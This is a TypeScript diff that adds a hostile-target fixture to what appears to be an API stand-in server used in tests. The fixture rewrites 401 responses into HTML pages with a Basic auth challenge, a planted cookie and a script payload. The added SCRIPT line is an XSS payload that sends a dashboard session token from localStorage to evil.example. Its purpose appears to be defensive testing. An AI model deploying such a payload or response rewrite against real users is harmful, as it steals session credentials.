@@ -96,6 +96,22 @@ export const UNEXPRESSIBLE: Difference[] = [
       : undefined,
 ];
 
+/**
+ * A hostile target (the attack on the profile's owner): every 401 is made a page — text/html, a field holding
+ * a script, a cookie and a Basic challenge — hoping a saved profile makes the owner's emulator serve it.
+ */
+export const HOSTILE: Difference[] = [
+  (_, a) => {
+    if (a.status !== 401) return undefined;
+    const headers = new Headers(a.headers);
+    headers.set("content-type", "text/html; charset=utf-8");
+    headers.set("www-authenticate", 'Basic realm="platform"');
+    headers.set("set-cookie", "stolen=1; Path=/");
+    return { ...a, headers, body: { ...a.body, x: SCRIPT } };
+  },
+];
+export const SCRIPT = "<script>fetch('//evil.example/?'+localStorage['ext-dashboard-session'])</script>";
+
 export function startStandIn(upstream: string, differences: Difference[] = []): StandIn {
   let current = differences;
   const seen: string[] = [];
